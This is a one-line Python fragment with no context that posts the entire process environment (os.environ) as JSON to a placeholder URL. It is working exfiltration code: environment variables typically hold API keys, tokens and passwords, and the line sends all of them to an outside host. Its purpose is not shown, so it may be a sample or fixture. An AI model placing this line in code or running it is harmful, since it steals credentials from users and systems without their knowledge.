requests.post(URL, json=dict(os.environ))
